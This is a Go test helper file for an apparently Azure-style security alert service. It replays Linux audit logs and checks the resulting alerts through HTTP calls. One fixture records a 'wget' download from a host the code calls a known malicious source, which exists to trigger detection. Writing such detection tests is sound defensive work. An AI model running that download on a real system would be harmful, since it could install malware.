package security

import (
	"context"
	"encoding/json"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/bulkheadhq/bulkhead/agent/activity"
	"github.com/bulkheadhq/bulkhead/agent/batch"
	"github.com/bulkheadhq/bulkhead/agent/linuxaudit"
	"github.com/bulkheadhq/bulkhead/agent/replay"
	"github.com/bulkheadhq/bulkhead/internal/arm"
	"github.com/bulkheadhq/bulkhead/internal/audit"
	"github.com/bulkheadhq/bulkhead/internal/authn"
	"github.com/bulkheadhq/bulkhead/internal/clock"
	"github.com/bulkheadhq/bulkhead/internal/ids"
	"github.com/bulkheadhq/bulkhead/internal/names"
	"github.com/bulkheadhq/bulkhead/internal/outbox"
	"github.com/bulkheadhq/bulkhead/internal/services/security/detect"
	"github.com/bulkheadhq/bulkhead/internal/services/security/posture"
	"github.com/bulkheadhq/bulkhead/internal/store/pebble"
	"github.com/bulkheadhq/bulkhead/internal/wire"
)

const (
	tenantID   = "7e000000-0000-4000-8000-000000000001"
	version    = "?api-version=2022-01-01"
	oldVersion = "?api-version=2019-01-01"
	reader     = "39bc4728-0917-49c7-9d2c-d95423bc2eb4" // Security Reader
)

// people are the directory and the verifier: a caller's token is its name.
type people struct{}

func objectID(name string) string {
	return map[string]string{"owner": "00000000-0000-0000-0000-0000000000a1", "other": "00000000-0000-0000-0000-0000000000a2"}[name]
}

func (people) Verify(_ context.Context, raw string) (*authn.Principal, error) {
	if objectID(raw) == "" {
		return nil, &authn.VerifyError{Reason: authn.BadSignature}
	}
	return &authn.Principal{Kind: authn.ServicePrincipal, TenantID: tenantID, ObjectID: objectID(raw), AppID: "app-" + raw, Audience: "https://management.azure.com/"}, nil
}

func (people) EnsureManagedIdentity(context.Context, arm.ManagedIdentity) error { return nil }
func (people) RemoveServicePrincipal(context.Context, string, string) error     { return nil }
func (people) FindPrincipal(context.Context, string) (string, authn.Kind, bool, error) {
	return tenantID, authn.ServicePrincipal, true, nil
}

type lateOutbox struct{ *outbox.Drainer }

// plane is the service behind the real control plane, with machines db1 in rg1 and web1 in rg2.
type plane struct {
	t       *testing.T
	s       *Service
	clock   *clock.Fake
	control *arm.Pipeline
	mux     http.Handler
	routes  []wire.Route
	sub     string
	told    []string // names of alerts that automations were told of
}

func newPlane(t *testing.T) *plane {
	t.Helper()
	st, err := pebble.Open(t.TempDir(), pebble.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = st.Close() })
	clk := clock.NewFake(time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC))
	log := slog.New(slog.NewTextHandler(t.Output(), nil))
	trail, box := audit.NewLog(st, clk, log), &lateOutbox{}
	p := &plane{t: t, clock: clk}
	p.control = arm.New(arm.Deps{
		Store: st, Clock: clk, Log: log, Names: names.New(st, clk), Outbox: box, Verifier: people{}, Audit: trail, Directory: people{},
		TenantExists: func(context.Context, string) (bool, error) { return true, nil },
	})
	p.s = New(Deps{
		Store: st, Clock: clk, Log: log, Resources: p.control, Outbox: box, Intel: detect.ShippedIndicators(),
	})
	nothing := func(context.Context, *arm.Call) error { return nil }
	machines := arm.Type{Name: "Microsoft.HybridCompute/machines", Versions: []string{"2024-07-10"}, Put: nothing}
	if err := p.control.Register(append(p.s.Types(), machines)...); err != nil {
		t.Fatal(err)
	}
	handlers := p.control.OutboxHandlers()
	maps.Copy(handlers, trail.OutboxHandlers())
	maps.Copy(handlers, p.s.OutboxHandlers())
	handlers["security.event"] = func(_ context.Context, _ string, payload []byte) error {
		var e posture.Event
		if err := json.Unmarshal(payload, &e); err != nil {
			return err
		}
		var body struct {
			ID, Name   string
			Properties struct {
				AlertType, CompromisedEntity string
				ExtendedProperties           map[string]string
			}
		}
		if err := json.Unmarshal(e.Body, &body); err != nil || !strings.HasPrefix(e.ID, body.Name) || body.Properties.AlertType == "" || !strings.HasSuffix(body.ID, "/alerts/"+body.Name) {
			t.Errorf("automations are told %s, %v", e.Body, err)
		}
		told := body.Properties.AlertType + " " + body.Properties.CompromisedEntity
		if why := body.Properties.ExtendedProperties["update"]; why != "" {
			told += " " + why
		}
		p.told = append(p.told, told)
		return nil
	}
	box.Drainer = outbox.NewDrainer(st, log, handlers)
	service := p.control.Service()
	for _, r := range service.Routes {
		if strings.Contains(r.Pattern, "Microsoft.Security") && strings.Contains(r.Pattern, "lert") {
			p.routes = append(p.routes, r)
		}
	}
	if p.mux, err = wire.NewMux([]wire.Service{service}, wire.Options{Clock: clk, Log: log}); err != nil {
		t.Fatal(err)
	}
	if p.sub, err = p.control.CreateSubscription(t.Context(), tenantID, "Sub", objectID("owner")); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"1", "2"} {
		p.ok("owner", "PUT", p.rg("rg"+name)+"?api-version=2021-04-01", `{"location":"westeurope"}`, 201)
	}
	p.ok("owner", "PUT", p.machine("rg1", "db1")+"?api-version=2024-07-10", `{"location":"westeurope"}`, 201)
	p.ok("owner", "PUT", p.machine("rg2", "web1")+"?api-version=2024-07-10", `{"location":"westeurope"}`, 201)
	return p
}

func (p *plane) rg(name string) string { return "/subscriptions/" + p.sub + "/resourceGroups/" + name }

func (p *plane) machine(group, name string) string {
	return p.rg(group) + "/providers/Microsoft.HybridCompute/machines/" + name
}

// ingest reports a log of audit records as a batch of a machine.
func (p *plane) ingest(machine string, seq uint64, write func(l *replay.Log)) {
	p.t.Helper()
	log := &replay.Log{Now: p.clock.Now().Add(-6 * time.Hour), Host: "db1"}
	write(log)
	var n activity.Normalizer
	var all batch.Batch
	r := linuxaudit.NewReassembler(func(e *linuxaudit.Event) {
		packed, err := batch.Encode(&batch.Batch{Events: []activity.Event{*n.Audit(e)}}) // what the source lent is copied
		if err != nil {
			p.t.Fatal(err)
		}
		one, err := batch.Decode(packed)
		if err != nil {
			p.t.Fatal(err)
		}
		all.Events = append(all.Events, one.Events...)
	})
	for line := range strings.Lines(log.Audit()) {
		r.Line([]byte(line))
	}
	r.Flush()
	packed, err := batch.Encode(&all)
	if err != nil {
		p.t.Fatal(err)
	}
	if _, err := p.s.Engine().Ingest(p.t.Context(), machine, seq, nil, packed); err != nil {
		p.t.Fatal(err)
	}
}

// fetch is one download from a known malicious source.
func fetch(l *replay.Log) {
	l.Exec(replay.Process{PID: 2031, Parent: 2001, AUID: 1000, UID: 1000, Session: 7, TTY: "pts0", Dir: "/srv/ops"}, "/usr/bin/wget", []string{"wget", "http://nasapaul.com/speed"})
}

func (p *plane) do(who, method, path, body string) (int, http.Header, map[string]any) {
	p.t.Helper()
	r := httptest.NewRequest(method, "https://management.azure.com"+path, strings.NewReader(body))
	r.Header.Set("Authorization", "Bearer "+who)
	w := httptest.NewRecorder()
	p.mux.ServeHTTP(w, r)
	var out map[string]any
	if w.Body.Len() > 0 {
		if err := json.Unmarshal(w.Body.Bytes(), &out); err != nil {
			p.t.Fatalf("%s %s: %d with a body that is not JSON: %s", method, path, w.Code, w.Body)
		}
	}
	return w.Code, w.Header(), out
}

func (p *plane) ok(who, method, path, body string, want int) map[string]any {
	p.t.Helper()
	status, _, out := p.do(who, method, path, body)
	if status != want {
		p.t.Fatalf("%s %s %s = %d %v, want %d", who, method, path, status, out, want)
	}
	return out
}

// list gives the alerts of a list, all pages.
func (p *plane) list(who, path string) (all []map[string]any) {
	p.t.Helper()
	for path != "" {
		out := p.ok(who, "GET", path, "", 200)
		for _, v := range out["value"].([]any) {
			all = append(all, v.(map[string]any))
		}
		next, _ := out["nextLink"].(string)
		path = strings.TrimPrefix(next, "https://management.azure.com")
	}
	return all
}

func (p *plane) assign(scope, role, who string) {
	p.t.Helper()
	p.ok("owner", "PUT", scope+"/providers/Microsoft.Authorization/roleAssignments/"+ids.New()+"?api-version=2022-04-01",
		`{"properties":{"roleDefinitionId":"/subscriptions/x/providers/Microsoft.Authorization/roleDefinitions/`+role+`","principalId":"`+objectID(who)+`"}}`, 201)
}

// properties of an alert or rule.
func properties(v map[string]any) map[string]any {
	m, _ := v["properties"].(map[string]any)
	return m
}
